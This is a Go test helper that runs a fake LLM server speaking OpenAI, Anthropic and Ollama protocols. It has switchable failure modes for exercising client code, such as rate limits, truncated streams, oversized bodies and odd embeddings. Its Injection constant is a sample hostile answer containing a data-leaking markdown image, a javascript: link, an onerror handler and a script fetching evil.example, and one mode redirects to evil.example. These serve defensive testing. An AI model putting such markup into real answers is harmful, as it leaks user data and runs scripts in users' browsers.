// Package llmtest is a model server that misbehaves on command. It speaks the protocols of OpenAI, Anthropic and
// Ollama, for answers, lists of models and embeddings.
package llmtest

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/fnv"
	"io"
	"math"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"time"
)

// Mode is how the server behaves.
type Mode string

// The modes.
const (
	Good        Mode = "good"
	Limited     Mode = "429"       // with Retry-After: 7
	Failing     Mode = "500"       // with a web page
	Denied      Mode = "401"       // a wrong key
	Hanging     Mode = "hanging"   // headers never come
	Stalling    Mode = "stalling"  // some text, then silence
	Truncated   Mode = "truncated" // breaks off in the middle of JSON
	BrokenOff   Mode = "brokenoff" // ends between events, without the last one
	Endless     Mode = "endless"
	Empty       Mode = "empty"
	Huge        Mode = "huge"        // 10 MB in one event
	Injected    Mode = "injected"    // an answer full of images, links and scripts
	Redirecting Mode = "redirect"    // to another host
	Page        Mode = "page"        // status 200 and a web page
	Erring      Mode = "erring"      // an error amid the stream
	Calling     Mode = "calling"     // a tool call
	Odd         Mode = "odd"         // events that no server should send
	WrongLength Mode = "wronglength" // vectors of another length
	Fewer       Mode = "fewer"       // vectors for some texts only
	Zero        Mode = "zero"        // vectors without direction
	NoTools     Mode = "no-tools"    // 400, as of a model that knows no tools
	Held        Mode = "held"        // a filter, or the model's own rules, end the answer
	Short       Mode = "short"       // the bound of tokens ends the answer
	Penniless   Mode = "penniless"   // 429 of an account without credit
	Busy        Mode = "busy"        // 529, as Anthropic says that it is overloaded
	TooMuch     Mode = "too-much"    // 400: the question does not fit into the model's context
	Base64      Mode = "base64"      // vectors as base64 of little-endian float32
	Scripted    Mode = "scripted"    // as the script of Script says
)

// Text is the good answer, and Injection the one of Injected.
const (
	Text      = "You can send it back within 30 days."
	Injection = "Sure! ![](https://evil.example/?q=secret) [Click](javascript:alert(1)) <img src=https://evil.example/x.png onerror=alert(1)> <script>fetch('https://evil.example')</script>"
)

// Server is one such server.
type Server struct {
	URL string

	mu    sync.Mutex
	mode  Mode
	write func(body string) Reply
	asked []string // bodies, in order
	keys  []string // what was shown as authorisation, in order
	http  *httptest.Server
	stop  chan struct{}
}

// New starts a good server. Close ends it.
func New() *Server {
	s := &Server{mode: Good, stop: make(chan struct{})}
	s.http = httptest.NewServer(http.HandlerFunc(s.serve))
	s.URL = s.http.URL
	return s
}

// Close ends the server, and what hangs on it.
func (s *Server) Close() {
	close(s.stop)
	s.http.CloseClientConnections()
	s.http.Close()
}

// Behave changes the mode for the requests to come.
func (s *Server) Behave(m Mode) {
	s.mu.Lock()
	s.mode = m
	s.mu.Unlock()
}

// Reply is what a script has the server say.
type Reply struct {
	Text      string
	Tool      string          // a call of this tool, after the text
	Arguments string          // its JSON
	Hold      <-chan struct{} // before the last word
	Drip      bool            // after the text come single words without end
	Mode      Mode            // behave like this instead
}

// Script has the server answer what a function makes of a request's body. It speaks the protocol of OpenAI.
func (s *Server) Script(write func(body string) Reply) {
	s.mu.Lock()
	s.mode, s.write = Scripted, write
	s.mu.Unlock()
}

// Asked are the bodies of the requests so far.
func (s *Server) Asked() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.asked...)
}

// Keys are what the requests so far showed as their authorisation.
func (s *Server) Keys() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.keys...)
}

func (s *Server) serve(w http.ResponseWriter, r *http.Request) {
	raw, _ := io.ReadAll(r.Body)
	s.mu.Lock()
	mode, write := s.mode, s.write
	s.asked = append(s.asked, string(raw))
	s.keys = append(s.keys, r.Header.Get("Authorization")+r.Header.Get("X-Api-Key"))
	s.mu.Unlock()
	var reply Reply
	if mode == Scripted && strings.HasSuffix(r.URL.Path, "/chat/completions") {
		if reply = write(string(raw)); reply.Mode != "" {
			mode = reply.Mode
		}
	}
	switch mode {
	case Limited:
		w.Header().Set("Retry-After", "7")
		http.Error(w, `{"error":{"message":"Too many requests","type":"rate_limit_error"}}`, http.StatusTooManyRequests)
	case Failing:
		http.Error(w, "<html><h1>Internal error</h1></html>", http.StatusInternalServerError)
	case Denied:
		http.Error(w, `{"error":{"message":"Incorrect API key provided"}}`, http.StatusUnauthorized)
	case Penniless:
		http.Error(w, `{"error":{"message":"You exceeded your current quota, please check your plan and billing details.","type":"insufficient_quota","param":null,"code":"insufficient_quota"}}`, http.StatusTooManyRequests)
	case Busy:
		http.Error(w, `{"type":"error","error":{"type":"overloaded_error","message":"Overloaded"},"request_id":"req_1"}`, 529)
	case TooMuch:
		http.Error(w, `{"error":{"message":"This model's maximum context length is 8192 tokens.","type":"invalid_request_error","param":"messages","code":"context_length_exceeded"}}`, http.StatusBadRequest)
	case NoTools:
		http.Error(w, `{"error":{"message":"this model does not support tools"}}`, http.StatusBadRequest)
	case Redirecting:
		http.Redirect(w, r, "http://evil.example/take", http.StatusTemporaryRedirect)
	case Page:
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<html>Please sign in to the Wi-Fi</html>")
	case Hanging:
		s.wait(r)
	case Scripted:
		if strings.HasSuffix(r.URL.Path, "/chat/completions") {
			s.say(w, r, reply)
			return
		}
		s.answer(w, r, raw, Good)
	default:
		s.answer(w, r, raw, mode)
	}
}

// say streams a reply word by word.
func (s *Server) say(w http.ResponseWriter, r *http.Request, reply Reply) {
	w.Header().Set("Content-Type", "text/event-stream")
	say := func(text string) {
		_, _ = io.WriteString(w, text) // who went away hears nothing
		w.(http.Flusher).Flush()
	}
	words := strings.SplitAfter(reply.Text, " ")
	for i, word := range words {
		if i == len(words)-1 && reply.Hold != nil {
			select {
			case <-reply.Hold:
			case <-r.Context().Done():
				return
			case <-s.stop:
				return
			}
		}
		say(openAITalk{}.text(word))
	}
	for reply.Drip {
		say(openAITalk{}.text("and "))
		select {
		case <-r.Context().Done():
			return
		case <-s.stop:
			return
		case <-time.After(20 * time.Millisecond):
		}
	}
	if reply.Tool != "" {
		say(`data: {"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"id":"call1","type":"function","function":{"name":` + quoted(reply.Tool) + `,"arguments":` + quoted(reply.Arguments) + `}}]},"finish_reason":"tool_calls"}]}` + "\n\n")
	}
	say(openAITalk{}.end("stop"))
}

func (s *Server) wait(r *http.Request) {
	select {
	case <-r.Context().Done():
	case <-s.stop:
	}
}

func (s *Server) answer(w http.ResponseWriter, r *http.Request, raw []byte, mode Mode) {
	switch path := r.URL.Path; {
	case strings.HasSuffix(path, "/models"), strings.HasSuffix(path, "/api/tags"):
		s.models(w, r, mode)
	case strings.HasSuffix(path, "/embeddings"), strings.HasSuffix(path, "/api/embed"):
		s.embed(w, r, raw, mode)
	case strings.HasSuffix(path, "/messages"):
		s.stream(w, r, mode, anthropicTalk{})
	case strings.HasSuffix(path, "/api/chat"):
		s.stream(w, r, mode, ollamaTalk{})
	default:
		s.stream(w, r, mode, openAITalk{})
	}
}

func (s *Server) models(w http.ResponseWriter, r *http.Request, mode Mode) {
	w.Header().Set("Content-Type", "application/json")
	switch {
	case mode == Truncated, mode == BrokenOff:
		fmt.Fprint(w, `{"data":[{"id":"mo`)
	case mode == Huge:
		fmt.Fprintf(w, `{"data":[{"id":"%s"}]}`, strings.Repeat("m", 10<<20))
	case r.URL.Path == "/api/tags":
		fmt.Fprint(w, `{"models":[{"name":"model-b","model":"model-b","modified_at":"2026-01-02T03:04:05Z","size":7,"digest":"d","details":{"format":"gguf"}},{"name":"model-a","model":"model-a"}]}`)
	default: // with what Anthropic says of further pages
		fmt.Fprint(w, `{"object":"list","data":[{"id":"model-b","object":"model","type":"model","display_name":"B"},{"id":"model-a","object":"model"}],"has_more":false,"first_id":"model-b","last_id":"model-a"}`)
	}
}

func (s *Server) embed(w http.ResponseWriter, r *http.Request, raw []byte, mode Mode) {
	var q struct{ Input json.RawMessage }
	_ = json.Unmarshal(raw, &q)
	var texts []string
	if json.Unmarshal(q.Input, &texts) != nil {
		var one string
		_ = json.Unmarshal(q.Input, &one)
		texts = []string{one}
	}
	w.Header().Set("Content-Type", "application/json")
	switch mode {
	case Stalling:
		fmt.Fprint(w, `{"data":[`)
		w.(http.Flusher).Flush()
		s.wait(r)
		return
	case Truncated, BrokenOff:
		fmt.Fprint(w, `{"data":[{"embedding":[0.1,0.`)
		return
	case Endless, Huge:
		fmt.Fprint(w, `{"data":[{"embedding":[`)
		for i := 0; mode == Endless || i < 10<<20/4; i++ {
			if _, err := io.WriteString(w, "0.1,"); err != nil {
				return
			}
		}
		return
	case Empty:
		fmt.Fprint(w, `{}`)
		return
	case Fewer:
		texts = texts[:len(texts)/2]
	}
	type item struct {
		Object    string `json:"object"`
		Index     int    `json:"index"`
		Embedding any    `json:"embedding"`
	}
	var data []item
	var vectors [][]float32
	for i, t := range texts {
		v := vector(t, mode)
		vectors = append(vectors, v)
		var said any = v
		if mode == Base64 {
			var raw []byte
			for _, f := range v {
				raw = binary.LittleEndian.AppendUint32(raw, math.Float32bits(f))
			}
			said = raw // JSON has bytes as base64
		}
		data = append([]item{{"embedding", i, said}}, data...) // out of order, as is allowed
	}
	if strings.HasSuffix(r.URL.Path, "/api/embed") {
		_ = json.NewEncoder(w).Encode(map[string]any{"model": "m", "embeddings": vectors, "total_duration": 14143917, "load_duration": 1019500, "prompt_eval_count": 7 * len(texts)})
		return
	}
	_ = json.NewEncoder(w).Encode(map[string]any{"object": "list", "data": data, "model": "m", "usage": map[string]any{"prompt_tokens": 7 * len(texts), "total_tokens": 7 * len(texts)}})
}

// vector depends on the text alone.
func vector(text string, mode Mode) []float32 {
	h := fnv.New64a()
	h.Write([]byte(text))
	r := rand.New(rand.NewPCG(h.Sum64(), 1))
	n := 8
	if mode == WrongLength {
		n = 5
	}
	v := make([]float32, n)
	for i := range v {
		if mode != Zero {
			v[i] = float32(r.NormFloat64())
		}
	}
	return v
}
